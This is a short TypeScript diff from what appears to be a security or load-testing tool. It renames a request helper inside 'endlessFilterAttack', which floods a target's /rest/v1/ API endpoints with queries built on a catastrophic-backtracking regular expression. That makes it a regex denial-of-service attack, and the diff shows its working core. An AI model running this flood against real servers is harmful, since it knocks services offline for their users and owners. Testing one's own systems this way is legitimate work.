@@ -1,4 +1,4 @@
-import { type Attack, call, floodServer } from '../attack.ts';
+import { type Attack, floodServer, sendRequest } from '../attack.ts';
 
 const endless = encodeURIComponent('^(.+)(.+)(.+)(.+)\\1\\2\\3\\4$');
 const queries = (event: string) => [
@@ -16,7 +16,7 @@ export const endlessFilterAttack: Attack = {
     const paths = queries(target.ownEvent);
     return floodServer(
       20,
-      (index) => call(target, `/rest/v1/${paths[index % paths.length]}`, {}, signal),
+      (index) => sendRequest(target, `/rest/v1/${paths[index % paths.length]}`, {}, signal),
       signal,
     );
   },
